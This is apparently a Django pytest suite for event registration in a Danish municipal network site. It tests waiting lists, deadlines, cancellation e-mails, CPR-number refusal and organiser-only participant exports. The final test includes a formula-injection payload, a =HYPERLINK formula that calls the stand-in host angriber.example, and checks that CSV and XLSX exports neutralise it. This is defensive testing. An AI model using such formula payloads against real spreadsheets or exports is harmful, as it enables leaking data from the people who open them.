"""Capacity, waiting list, deadline, cancellation and the e-mails about them."""

import csv
import datetime as dt
import io

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar
from openpyxl import load_workbook

from kb.core.exceptions import ActionRefused
from kb.taxonomy.models import Municipality
from networks.models import EventRegistration
from networks.services import cancel_registration, register_for_event
from tests import factories


def register(event, user, **fields):
    return register_for_event(
        event=event,
        user=user,
        name=fields.pop("name", user.username.title()),
        organisation=fields.pop("organisation", "Vejle Kommune"),
        email=user.email,
        municipality=fields.pop("municipality", Municipality.objects.get(name="Vejle")),
        **fields,
    )


def test_seats_then_waiting_list(
    small_event, people, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        statuses = [register(small_event, person).status for person in people[:3]]
    assert statuses == ["confirmed", "confirmed", "waiting"]
    assert small_event.seats_left() == 0
    subjects = [m.subject for m in mail.outbox]
    assert subjects.count(f"Du er tilmeldt: {small_event.title}") == 2
    assert subjects.count(f"Du er på venteliste: {small_event.title}") == 1


def test_confirmation_has_a_valid_ics_in_local_time(
    small_event, people, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        register(small_event, people[0])
    (message,) = mail.outbox
    name, content, mimetype = message.attachments[0]
    assert name.endswith(".ics") and mimetype == "text/calendar"
    event = Calendar.from_ical(content).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == small_event.title
    assert event.decoded("DTSTART") == small_event.start.replace(microsecond=0)
    assert str(event["DTSTART"].params["TZID"]) == "Europe/Copenhagen"


def test_cancelling_promotes_the_first_on_the_waiting_list(
    small_event, people, django_capture_on_commit_callbacks
):
    first, second, third, fourth = (register(small_event, p) for p in people)
    assert (third.status, fourth.status) == ("waiting", "waiting")

    with django_capture_on_commit_callbacks(execute=True):
        promoted = cancel_registration(registration=first, by_user=people[0])

    assert promoted.pk == third.pk
    third.refresh_from_db()
    assert third.status == "confirmed" and third.promoted_at
    by_recipient = {m.to[0]: m.subject for m in mail.outbox}
    assert by_recipient == {
        people[0].email: f"Du er afmeldt: {small_event.title}",
        people[2].email: f"Du har fået en plads: {small_event.title}",
    }
    assert small_event.confirmed_count() == 2  # never over capacity


def test_deadline_closes_registration_and_cancellation(small_event, people):
    after_deadline = small_event.registration_deadline + dt.timedelta(minutes=1)
    with pytest.raises(ActionRefused, match="Tilmeldingsfristen er overskredet"):
        register(small_event, people[0], now=after_deadline)
    registration = register(small_event, people[1])
    with pytest.raises(ActionRefused, match="Fristen for afmelding er overskredet"):
        cancel_registration(
            registration=registration, by_user=people[1], now=after_deadline
        )


def test_cancelled_event_refuses_and_tells_registrants(
    small_event, people, django_capture_on_commit_callbacks
):
    register(small_event, people[0])
    register(small_event, people[1])
    small_event.is_cancelled = True
    with django_capture_on_commit_callbacks(execute=True):
        small_event.save_revision().publish()
    assert sorted(m.to[0] for m in mail.outbox) == sorted(
        [people[0].email, people[1].email]
    )
    assert all(m.subject.startswith("Aflyst:") for m in mail.outbox)
    with pytest.raises(ActionRefused, match="aflyst"):
        register(small_event, people[2])


def test_one_registration_per_person(small_event, people):
    register(small_event, people[0])
    with pytest.raises(ActionRefused, match="allerede tilmeldt"):
        register(small_event, people[0])


def test_cpr_number_in_needs_is_refused(small_event, people):
    with pytest.raises(Exception, match="CPR-nummer"):
        register(small_event, people[0], needs="Borgeren 010190-1234 har brug for tolk")
    assert not EventRegistration.objects.exists()


def test_registration_form_keeps_input_and_explains_cpr(client, small_event, people):
    client.force_login(people[0])
    url = reverse("networks:register", args=[small_event.pk])
    response = client.post(
        url,
        {
            "name": "Anne Hansen",
            "organisation": "Vejle Kommune",
            "email": "anne@example.dk",
            "needs": "Vegetar, 0101901234",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "CPR-nummer" in html and "Anne Hansen" in html and "Vegetar" in html
    assert not EventRegistration.objects.exists()

    response = client.post(
        url,
        {
            "name": "Anne Hansen",
            "organisation": "Vejle Kommune",
            "email": "anne@example.dk",
            "needs": "Vegetar",
        },
    )
    assert response.status_code == 302
    page = client.get(reverse("networks:my_events")).content.decode()
    assert small_event.title in page and "Tilmeldt" in page


def test_registration_needs_login(small_event):
    response = Client().get(reverse("networks:register", args=[small_event.pk]))
    assert response.status_code == 302


def test_nobody_can_cancel_someone_elses_registration(client, small_event, people):
    registration = register(small_event, people[0])
    client.force_login(people[1])
    response = client.post(
        reverse("networks:cancel_registration", args=[registration.pk])
    )
    assert response.status_code == 404
    registration.refresh_from_db()
    assert registration.status == "confirmed"


def test_participant_list_for_organisers_only(
    client, editor_client, small_event, people
):
    register(small_event, people[0], name="Søren Æbelø")
    register(
        small_event, people[1], municipality=Municipality.objects.get(name="Aarhus")
    )
    register(small_event, people[2])
    url = reverse("networks:participants", args=[small_event.pk])

    html = editor_client.get(url).content.decode()
    assert "Søren Æbelø" in html and "Venteliste" in html
    assert ">Vejle<" in html and ">Aarhus<" in html

    csv_response = editor_client.get(url, {"format": "csv"})
    text = csv_response.content.decode("utf-8-sig")
    assert csv_response.content.startswith("\ufeff".encode())
    assert "Søren Æbelø" in text and text.count("\n") == 4

    xlsx = editor_client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(names) == 3 and "Søren Æbelø" in names

    outsider = Client()
    outsider.force_login(people[3])
    assert outsider.get(url).status_code == 404


def test_past_events_close_registration(small_event, people):
    later = small_event.start + dt.timedelta(hours=1)
    with pytest.raises(ActionRefused, match="begyndt eller afholdt"):
        register(small_event, people[0], now=later)
    assert timezone.now() < small_event.start


def test_event_page_shows_seats_own_status_and_organiser_link(
    client, editor_client, small_event, people
):
    html = Client().get(small_event.url).content.decode()
    assert "Der er 2 ledige pladser." in html
    assert "Deltagerliste" not in html
    register(small_event, people[0])
    participant = Client()
    participant.force_login(people[0])
    html = participant.get(small_event.url).content.decode()
    assert "Du er tilmeldt." in html and "Deltagerliste" not in html
    assert "Deltagerliste" in editor_client.get(small_event.url).content.decode()


def test_an_online_event_says_online_once(client, small_event):
    small_event.location = "Online"
    small_event.online = True
    small_event.save_revision().publish()
    html = client.get(small_event.get_parent().url).content.decode()
    assert "Online og online" not in html and "Online" in html


def test_the_form_is_prefilled_from_the_organisation_and_warns_once(
    client, small_event
):
    user = factories.user(municipality="Vejle", first_name="Anne", last_name="Hansen")
    client.force_login(user)
    html = client.get(
        reverse("networks:register", args=[small_event.pk])
    ).content.decode()
    assert 'value="Vejle"' in html  # organisation
    assert "Anne Hansen" in html
    assert html.count("CPR-numre") == 1


def test_participant_lists_and_my_events_are_never_cached(
    client, editor_client, small_event, people
):
    register(small_event, people[0])
    url = reverse("networks:participants", args=[small_event.pk])
    for response in (
        editor_client.get(url),
        editor_client.get(url, {"format": "csv"}),
        editor_client.get(url, {"format": "xlsx"}),
        editor_client.get(reverse("networks:activity_report")),
    ):
        assert response["Cache-Control"] == "private, no-store"
    client.force_login(people[0])
    assert client.get(reverse("networks:my_events"))["Cache-Control"] == (
        "private, no-store"
    )


def test_a_formula_as_a_participants_name_is_text_in_the_exports(
    editor_client, small_event, people
):
    """A participant named =HYPERLINK(…) cannot make the organiser's
    spreadsheet run it."""
    hostile = '=HYPERLINK("http://angriber.example/?x="&A1;"Klik")'
    register(small_event, people[0], name=hostile, organisation="@SUM(1+1)")
    url = reverse("networks:participants", args=[small_event.pk])
    text = editor_client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][0] == "'" + hostile
    assert "'@SUM(1+1)" in rows[1]
    xlsx = editor_client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == "'" + hostile
